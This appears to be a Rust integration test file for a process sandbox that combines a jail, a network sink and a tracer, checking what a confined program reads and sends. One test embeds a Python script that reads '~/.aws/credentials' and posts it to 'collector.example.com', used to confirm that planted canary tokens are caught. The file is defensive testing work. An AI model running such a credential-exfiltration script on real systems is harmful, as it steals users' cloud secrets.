//! Jail, sink and tracer together: what a server reads, and what it sends to whom.

mod common;

use std::path::PathBuf;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

use common::{command, line, output, soon};
use tokio::io::{AsyncWriteExt, BufReader};
use wallfacer_process::jail::Jail;
use wallfacer_process::sink::{self, Authority, Mode, Sink};
use wallfacer_process::trace::{Filter, Gate, Kind, Options, Recorder};
use wallfacer_process::{Process, Rung, Spec, Status, Stdio, Watch};

struct Life {
    process: Process,
    stdio: Stdio,
    recorder: Arc<Recorder>,
    sink: Arc<Sink>,
    call: Arc<AtomicU64>,
}

fn start(program: &str, args: &[&str], home: &tempfile::TempDir) -> Life {
    let authority = Arc::new(Authority::new().unwrap());
    let call = Arc::new(AtomicU64::new(0));
    let recorder = Arc::new(Recorder::new(Arc::clone(&call)));
    let mut jail = Jail::new(home.path(), 3);
    jail.authority = Some(authority.pem().into());
    let mut spec = Spec { jail: Some(jail), cwd: Some("/".into()), ..command(program, args) };
    spec.env.insert("HOME".into(), home.path().into());
    let options = sink::Options {
        mode: Mode::Answer,
        allow: Vec::new(),
        names: Vec::new(),
        seed: 3,
        call: Arc::clone(&call),
        authority,
        shapes: Arc::default(),
        fault: None,
    };
    let made = Arc::new(Mutex::new(None));
    let keep = Arc::clone(&made);
    let watch = Watch {
        filter: Some(Filter::new(Options::default()).unwrap()),
        recorder: Arc::clone(&recorder),
        before: Box::new(move |opener| {
            let sink = Arc::new(Sink::start(opener.expect("a jail").clone(), options)?);
            *keep.lock().unwrap() = Some(Arc::clone(&sink));
            Ok(Some(sink as Arc<dyn Gate>))
        }),
    };
    let (process, stdio) = Process::start_watched(&spec, watch).expect("it starts");
    assert_eq!(process.confinement().rung, Rung::Overlay);
    assert!(process.is_watched());
    let sink = made.lock().unwrap().take().unwrap();
    Life { process, stdio, recorder, sink, call }
}

fn opened(recorder: &Recorder) -> Vec<(PathBuf, Option<u64>)> {
    let events = recorder.take().events;
    let opens = events.iter().filter_map(|event| match &event.kind {
        Kind::Open { location, .. } => Some((location.path(), event.call)),
        _ => None,
    });
    opens.collect()
}

#[test]
fn all_of_this_holds_for_an_ordinary_user_too() {
    common::tests_hold_for_an_ordinary_user("all_of_this_holds_for_an_ordinary_user_too");
}

#[tokio::test]
async fn a_canary_that_is_read_and_sent_out_is_seen_at_both_ends() {
    let home = tempfile::tempdir().unwrap();
    let script = "import os, sys, urllib.request
for line in sys.stdin:
    secret = open(os.path.expanduser('~/.aws/credentials')).read()
    answer = urllib.request.urlopen('https://collector.example.com/x', data=secret.encode(), timeout=20)
    print(answer.status, flush=True)";
    let mut life = start("/usr/bin/python3", &["-c", script], &home);
    life.call.store(17, Ordering::SeqCst);
    soon(life.stdio.stdin.write_all(b"go\n")).await.unwrap();
    let said = line(&mut BufReader::new(life.stdio.stdout)).await;
    assert_eq!(said, "200", "{}", String::from_utf8_lossy(&life.process.stderr().tail));
    assert!(opened(&life.recorder).contains(&(home.path().join(".aws/credentials"), Some(17))));
    let jail = Jail::new(home.path(), 3);
    let canary =
        jail.canaries().into_iter().find(|canary| canary.path.ends_with(".aws/credentials")).unwrap();
    let flows = life.sink.take().flows;
    let sent = flows.iter().find(|flow| flow.http.is_some()).expect("a request");
    assert_eq!((sent.name.as_deref(), sent.call), (Some("collector.example.com"), Some(17)));
    let bytes = String::from_utf8_lossy(&sent.sent.first);
    assert!(canary.tokens.iter().all(|token| bytes.contains(token)), "{bytes}");
}

#[tokio::test]
async fn node_and_curl_are_answered_on_any_port() {
    let home = tempfile::tempdir().unwrap();
    let fetch =
        "fetch('https://api.example.org:9443/').then(a => console.log(a.status), e => console.log(e.cause))";
    for (program, args) in [
        ("node", vec!["-e", fetch]),
        ("curl", vec!["-sS", "-o", "/dev/null", "-w", "%{http_code}\n", "https://api.example.org:9443/"]),
        ("curl", vec!["-sS", "-o", "/dev/null", "-w", "%{http_code}\n", "http://93.184.216.34:31337/"]),
    ] {
        let life = start(program, &args, &home);
        let said = output(life.stdio.stdout).await;
        assert_eq!(said, "200\n", "{}", String::from_utf8_lossy(&life.process.stderr().tail));
        assert_eq!(soon(life.process.exited()).await.status, Status::Exited(0));
    }
}

#[tokio::test]
async fn nobody_listens_on_loopback_unless_planted() {
    let home = tempfile::tempdir().unwrap();
    let script = "import socket
input()
for port in (4000, 4001):
    try:
        socket.create_connection(('127.0.0.1', port), 5)
        print('connected')
    except OSError as error: print(error.strerror)";
    let mut life = start("/usr/bin/python3", &["-c", script], &home);
    life.sink.plant(4001).unwrap();
    soon(life.stdio.stdin.write_all(b"\n")).await.unwrap();
    assert_eq!(output(life.stdio.stdout).await, "Connection refused\nconnected\n");
}

#[tokio::test]
async fn a_crash_is_told_with_its_signal_through_jail_and_tracer() {
    let home = tempfile::tempdir().unwrap();
    for (script, expected) in [("kill -ABRT $$", libc::SIGABRT), ("kill -SEGV $$", libc::SIGSEGV)] {
        let life = start("sh", &["-c", script], &home);
        let Status::Signalled { signal, .. } = soon(life.process.exited()).await.status else { panic!() };
        assert_eq!(signal, expected);
    }
}
